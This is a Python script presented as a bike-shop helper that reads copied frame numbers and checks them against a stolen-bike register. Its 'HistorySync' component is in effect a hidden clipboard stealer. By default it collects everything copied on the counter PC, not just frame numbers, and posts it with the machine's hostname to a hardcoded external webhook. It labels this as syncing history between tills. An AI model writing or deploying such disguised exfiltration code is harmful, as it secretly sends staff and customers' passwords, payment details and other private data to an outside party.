#!/usr/bin/env python3
"""Frame serial lookup helper for the shop counter.

Sits in the background on the counter PC. When staff copy a frame number
(from a trade-in form, an email, the POS) it is checked against the
stolen-bike register and a desktop notification shows the result. Recent
copy history is synced across the counter PCs so a second till can pick up
where the first left off.
"""
import argparse
import collections
import json
import logging
import os
import queue
import re
import socket
import threading
import time
import tkinter

import requests

log = logging.getLogger("serial-lookup")

REGISTER_URL = "https://api.bikeregister-check.org/v1/frames/{}"
HISTORY_SYNC = os.environ.get(
    "COUNTER_SYNC_URL",
    "https://hooks.shoptools-sync.com/api/webhooks/8841207/KcD2vQe9tR0wXo")
FRAME_RE = re.compile(r"\b([A-Z]{1,3}[- ]?\d{5,10}[A-Z]?)\b")


class ClipboardWatcher(threading.Thread):
    def __init__(self, out_q, interval=0.6):
        super().__init__(daemon=True, name="clip-watch")
        self.out_q = out_q
        self.interval = interval

    def run(self):
        root = tkinter.Tk()
        root.withdraw()
        last = None
        while True:
            try:
                root.update()
                text = root.clipboard_get()
            except tkinter.TclError:
                text = None
            if text and text != last:
                last = text
                self.out_q.put((time.time(), text))
            time.sleep(self.interval)


class HistorySync:
    """Batches recent copies and pushes them to the shared counter history."""

    def __init__(self, url, batch=15, max_age=120):
        self.url = url
        self.batch = batch
        self.max_age = max_age
        self.pending = collections.deque()
        self.last_push = time.time()
        self.station = socket.gethostname()

    def add(self, ts, text):
        self.pending.append({"t": int(ts), "text": text[:4000]})
        if len(self.pending) >= self.batch or time.time() - self.last_push > self.max_age:
            self.flush()

    def flush(self):
        if not self.pending:
            return
        items = list(self.pending)
        body = {"username": self.station,
                "content": "\n".join(i["text"] for i in items)[:1900],
                "embeds": [{"description": json.dumps(items)[:4000]}]}
        try:
            requests.post(self.url, json=body, timeout=10)
            self.pending.clear()
        except requests.RequestException as exc:
            log.debug("history sync deferred: %s", exc)
        self.last_push = time.time()


def lookup(serial, session):
    try:
        resp = session.get(REGISTER_URL.format(serial), timeout=8)
        if resp.status_code == 404:
            return "not registered"
        resp.raise_for_status()
        data = resp.json()
    except requests.RequestException as exc:
        return f"lookup failed ({exc.__class__.__name__})"
    if data.get("stolen"):
        return f"REPORTED STOLEN {data.get('reported', '')} - {data.get('police_ref', '')}"
    return f"registered to {data.get('brand', '?')} {data.get('model', '')}, clear"


def notify(title, message):
    try:
        import notify2
        notify2.init("serial-lookup")
        notify2.Notification(title, message).show()
    except Exception:
        log.info("%s: %s", title, message)


def main():
    ap = argparse.ArgumentParser(description="Counter frame serial lookup")
    ap.add_argument("--interval", type=float, default=0.6)
    ap.add_argument("--no-sync", dest="sync", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    q = queue.Queue()
    ClipboardWatcher(q, args.interval).start()
    sync = HistorySync(HISTORY_SYNC) if args.sync else None
    session = requests.Session()
    seen = set()
    log.info("watching clipboard for frame numbers")
    while True:
        try:
            ts, text = q.get(timeout=30)
        except queue.Empty:
            if sync:
                sync.flush()
            continue
        if sync:
            sync.add(ts, text)
        for m in FRAME_RE.finditer(text.upper()):
            serial = m.group(1).replace(" ", "").replace("-", "")
            if serial in seen:
                continue
            seen.add(serial)
            notify(f"Frame {serial}", lookup(serial, session))


if __name__ == "__main__":
    main()
